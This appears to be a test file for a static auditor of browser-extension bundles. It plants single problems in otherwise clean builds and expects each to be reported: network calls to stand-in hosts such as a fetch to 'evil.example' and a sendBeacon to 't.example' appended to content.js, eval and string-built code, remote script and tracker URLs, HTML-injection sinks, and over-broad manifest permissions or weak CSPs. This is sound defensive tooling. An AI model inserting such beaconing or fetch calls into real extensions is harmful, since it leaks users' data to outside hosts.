// The static audit must catch what it claims to catch: each case plants one problem in an
// otherwise clean bundle and expects exactly that problem to be reported.
import { describe, expect, it, beforeAll, afterAll } from 'vitest';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { auditCss, auditDir, auditHtml, auditJs, auditManifest, auditSourceDir, auditSourceFile } from './audit-bundle.mjs';
import { buildAll } from './build.mjs';

let root;
beforeAll(async () => {
  mkdirSync(resolve('.tmp'), { recursive: true });
  root = mkdtempSync(join(resolve('.tmp'), 'audit-test-'));
  await buildAll({ outDir: join(root, 'built') });
}, 60_000);
afterAll(() => rmSync(root, { recursive: true, force: true }));

function copy(browser) {
  const dir = mkdtempSync(join(root, `${browser}-`));
  cpSync(join(root, 'built', browser), dir, { recursive: true });
  return dir;
}

describe('the shipped bundles', () => {
  it.each(['chrome', 'firefox'])('%s passes the audit', (browser) => {
    expect(auditDir(join(root, 'built', browser), browser)).toEqual([]);
  });
});

describe('our source builds no HTML from strings', () => {
  it('src/ is clean', () => {
    expect(auditSourceDir(resolve('src'))).toEqual([]);
  });
  it.each([
    ['dangerouslySetInnerHTML', '<div dangerouslySetInnerHTML={{ __html: x }} />'],
    ['innerHTML/outerHTML assignment', 'el.innerHTML = label;'],
    ['innerHTML/outerHTML assignment', 'el.outerHTML += label;'],
    ['insertAdjacentHTML', "el.insertAdjacentHTML('beforeend', x)"],
    ['document.write', 'document.write(x)'],
    ['createContextualFragment', 'range.createContextualFragment(x)'],
  ])('catches %s in `%s`', (label, code) => {
    expect(auditSourceFile('a.tsx', code)).toEqual([`a.tsx: uses ${label}`]);
  });
  it('reading innerHTML or textContent is fine', () => {
    expect(auditSourceFile('a.ts', 'const h = el.innerHTML; el.textContent = label;')).toEqual([]);
  });
});

describe('planted problems are caught', () => {
  it.each([
    ['fetch', 'fetch("https://evil.example/x")'],
    ['fetch', 'self["fetch"](u)'],
    ['XMLHttpRequest', 'new XMLHttpRequest()'],
    ['WebSocket', 'new WebSocket(u)'],
    ['EventSource', 'new EventSource(u)'],
    ['sendBeacon', 'navigator.sendBeacon(u, d)'],
    ['importScripts', 'importScripts(u)'],
    ['eval', 'eval(code)'],
    ['eval', '(0, window.eval)(code)'],
    ['new Function', 'new Function("return 1")'],
    ['new Function', 'Function("return 1")()'],
    ['dynamic import()', 'import(u)'],
    ['WebTransport', 'new WebTransport(u)'],
    ['RTCPeerConnection', 'new RTCPeerConnection()'],
    ['setTimeout/setInterval with a string', 'setTimeout("go()", 1)'],
  ])('JS: %s in `%s`', (label, code) => {
    expect(auditJs('x.js', `!function(){${code}}();`).join('\n')).toContain(`uses ${label}`);
  });

  it('JS: a remote URL, but not the W3C namespace names Preact compares against', () => {
    expect(auditJs('x.js', 'var a="https://cdn.example.com/lib.js"')).toEqual(['x.js: contains a remote URL https://cdn.example.com/lib.js']);
    expect(auditJs('x.js', 'var a="wss://x.example"')).toHaveLength(1);
    expect(auditJs('x.js', 'n=="http://www.w3.org/2000/svg"')).toEqual([]);
    expect(auditJs('x.js', 'n=="http://www.w3.org.evil.example/2000/svg"')).toHaveLength(1);
  });

  it('JS: the polyfill allowance is that exact data-table text, not any eval', () => {
    expect(auditJs('x.js', 'devtools:{inspectedWindow:{eval:{minArgs:1,maxArgs:2}}}')).toEqual([]);
    expect(auditJs('x.js', 'devtools:{inspectedWindow:{eval:{minArgs:1}}};eval(x)')).toHaveLength(1);
  });

  it('JS: words that merely contain a forbidden name are fine', () => {
    expect(auditJs('x.js', 'var evaluate=1,prefetched=2,myFunction=function(){},fetchLike=3;')).toEqual([]);
  });

  it.each([
    ['<script src="https://cdn.example.com/a.js"></script>', 'is not a local file'],
    ['<script src="//cdn.example.com/a.js"></script>', 'is not a local file'],
    ['<img src="https://tracker.example/p.gif">', 'is not a local file'],
    ['<link rel="stylesheet" href="http://x.example/a.css">', 'is not a local file'],
    ['<script>alert(1)</script>', 'inline <script>'],
    ['<iframe src="a.html"></iframe>', '<iframe>'],
    ['<meta http-equiv="refresh" content="0;url=a">', 'meta refresh'],
  ])('HTML: %s', (html, message) => {
    expect(auditHtml('p.html', `<!doctype html>${html}`).join('\n')).toContain(message);
  });

  it('HTML: local files and data: images are fine', () => {
    expect(auditHtml('p.html', '<link rel="stylesheet" href="popup.css"><img src="data:image/png;base64,AA"><script src="popup.js"></script>')).toEqual([]);
  });

  it('CSS: remote url() and @import are caught, local and data: are not', () => {
    expect(auditCss('a.css', 'a{background:url(https://t.example/p.gif)}')).toHaveLength(1);
    expect(auditCss('a.css', '@import "https://t.example/a.css";')).toHaveLength(1);
    expect(auditCss('a.css', 'a{background:url("icons/16.png")} b{background:url(data:image/png;base64,AA)}')).toEqual([]);
  });

  it('manifest: an extra permission, host, missing CSP or a CSP that allows connections', () => {
    const good = JSON.parse(readFileSync(join(root, 'built', 'chrome', 'manifest.json'), 'utf8'));
    expect(auditManifest(good, 'chrome')).toEqual([]);
    const bad = (change) => auditManifest({ ...structuredClone(good), ...change }, 'chrome').join('\n');
    expect(bad({ permissions: ['storage', 'tabs'] })).toContain('permissions must be exactly');
    expect(bad({ permissions: [] })).toContain('permissions must be exactly');
    expect(bad({ host_permissions: [...good.host_permissions, '<all_urls>'] })).toContain('host_permissions');
    expect(bad({ optional_host_permissions: ['https://*/*'] })).toContain('optional_host_permissions');
    expect(bad({ web_accessible_resources: [{ resources: ['*'], matches: ['<all_urls>'] }] })).toContain('web_accessible_resources');
    expect(bad({ content_security_policy: undefined })).toContain('no content_security_policy');
    expect(bad({ content_security_policy: { extension_pages: "default-src 'none'; script-src 'self'; connect-src https://api.example" } })).toContain("connect-src 'none'");
    expect(bad({ content_security_policy: { extension_pages: "default-src 'none'; script-src 'self' 'unsafe-eval'; connect-src 'none'" } })).toContain('script-src');
    expect(bad({ content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }] })).toContain("outside the sites' hosts");
  });

  it('manifest: exactly the sites\' hosts, the web., m. and mobile. ones included, each with the content script', () => {
    const good = JSON.parse(readFileSync(join(root, 'built', 'chrome', 'manifest.json'), 'utf8'));
    for (const host of ['https://m.facebook.com/*', 'https://web.facebook.com/*', 'https://mobile.x.com/*']) {
      expect(good.host_permissions).toContain(host);
      expect(good.content_scripts[0].matches).toContain(host);
    }
    const bad = (change) => auditManifest({ ...structuredClone(good), ...change }, 'chrome').join('\n');
    expect(bad({ host_permissions: [...good.host_permissions, 'https://*.facebook.com/*'] })).toContain('host_permissions must be exactly');
    expect(bad({ host_permissions: good.host_permissions.filter((h) => h !== 'https://mobile.x.com/*') })).toContain('host_permissions must be exactly');
    const partial = structuredClone(good.content_scripts);
    partial[0].matches = partial[0].matches.filter((h) => h !== 'https://m.facebook.com/*');
    expect(bad({ content_scripts: partial })).toContain('no content script on https://m.facebook.com/*');
  });

  it('a whole bundle: a planted file and a planted call inside a shipped file are both reported', () => {
    const dir = copy('firefox');
    writeFileSync(join(dir, 'content.js'), readFileSync(join(dir, 'content.js'), 'utf8') + ';navigator.sendBeacon("https://t.example",1)');
    writeFileSync(join(dir, 'extra.wasm'), '');
    const problems = auditDir(dir, 'firefox').join('\n');
    expect(problems).toContain('content.js: uses sendBeacon');
    expect(problems).toContain('content.js: contains a remote URL https://t.example');
    expect(problems).toContain('extra.wasm: unexpected file type');
  });

  it('a Firefox bundle without its gecko id or data-collection declaration', () => {
    const dir = copy('firefox');
    const m = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
    delete m.browser_specific_settings;
    writeFileSync(join(dir, 'manifest.json'), JSON.stringify(m));
    const problems = auditDir(dir, 'firefox').join('\n');
    expect(problems).toContain('gecko id');
    expect(problems).toContain('data_collection_permissions');
  });
});
